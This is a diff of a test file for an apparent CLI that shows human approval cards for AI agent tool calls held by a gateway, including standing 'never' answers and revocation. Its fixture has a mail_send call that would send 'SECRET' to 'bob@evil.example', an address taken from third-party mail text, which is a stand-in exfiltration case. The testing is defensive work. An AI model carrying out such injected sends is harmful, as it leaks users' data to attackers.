@@ -1,18 +1,29 @@
 import { PassThrough } from 'node:stream'
 import { expect, test } from 'vitest'
-import { approvalCards } from '../../src/cli/approval-cards.js'
+import { approvalCards, standingLines } from '../../src/cli/approval-cards.js'
 import type { AskedPerson } from '../../src/gateway/person/person.js'
 
 const NOW = Date.parse('2027-01-31T12:00:00Z')
 const asked: AskedPerson = {
   id: 'ap_1',
+  revision: 'r1',
   tool: 'mail_send',
+  calls: [
+    {
+      callId: 'c1',
+      arguments: [
+        { argument: 'to', value: 'bob@evil.example' },
+        { argument: 'body', value: 'SECRET' },
+      ],
+      digest: 'd1',
+    },
+  ],
   items: [
     { argument: 'to', value: 'bob@evil.example', role: 'target', from: 'third-party-text, mail_read' },
-    { argument: 'amount', value: '20', role: 'amount', from: 'only the model' },
+    { argument: 'amount', value: '20', role: 'amount', from: 'not found in what was shown' },
   ],
   reason: 'Nothing accounts for a value.',
-  offers: ['once', 'value'],
+  offers: ['once', 'value', 'never'],
   expiresAt: '2027-01-31T12:58:00Z',
   conversation: 'client-claude-code',
   waits: true,
@@ -24,13 +35,19 @@ test('a card says what is held, why, and how to answer', () => {
   expect(cards(asked)).toBe(
     [
       'mail_send  ap_1 · expires in 58 minutes',
-      '  Nothing accounts for a value.',
-      '  to      bob@evil.example  target · third-party-text, mail_read',
-      '  amount  20  amount · only the model',
+      '  May mail_send run? Nothing accounts for a value.',
+      '  - target "to": "bob@evil.example" (third-party-text, mail_read)',
+      '  - amount "amount": "20" (not found in what was shown)',
+      '  The call in full:',
+      '  - "to": "bob@evil.example"',
+      '  - "body": "SECRET"',
+      '  A yes to the values counts for later calls with them too, whatever else those carry.',
+      '  Never: all calls of this tool with these values are refused.',
       '  asked by claude-code',
       `  sallyport approve ap_1 --config 'Lena'\\''s files/mcp.json' --for once`,
       `  sallyport approve ap_1 --config 'Lena'\\''s files/mcp.json' --for value`,
       `  sallyport deny ap_1 --config 'Lena'\\''s files/mcp.json'`,
+      `  sallyport deny ap_1 --config 'Lena'\\''s files/mcp.json' --for value`,
     ].join('\n'),
   )
 })
@@ -57,7 +74,39 @@ test('a value moves no cursor and makes no line of its own', () => {
   })
   // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
   expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/)
-  expect(text.split('\n')).toHaveLength(7)
+  expect(text.split('\n')).toHaveLength(13)
+})
+
+test('a yes to several calls says which were seen', () => {
+  const text = cards({ ...asked, calls: [...asked.calls, ...asked.calls] })
+  expect(text).toContain('--for once --seen r1')
+})
+
+test('what was retired is shown so, and has no way to answer', () => {
+  const text = cards({ ...asked, waits: false, retired: true })
+  expect(text).toContain('ap_1 · retired: you went on to other things')
+  expect(text).not.toContain('sallyport approve')
+})
+
+test('answers that go on counting are one card each, with how to take them back', () => {
+  const never = {
+    id: 'end_1',
+    verdict: 'deny' as const,
+    tools: ['mail_send'],
+    role: 'target',
+    value: 'bob@evil.example',
+    by: 'u-17',
+    at: '2027-01-31T12:00:00Z',
+    conversation: 'client-claude-code',
+  }
+  expect(standingLines([never], { config: 'mcp.json' })).toBe(
+    [
+      'mail_send  never: target "bob@evil.example"',
+      '  by u-17, to the end of its conversation, asked by claude-code',
+      '  sallyport revoke end_1 --config mcp.json',
+    ].join('\n'),
+  )
+  expect(standingLines([])).toBe('No answer goes on counting.')
 })
 
 test('nothing that waits is said', () => {
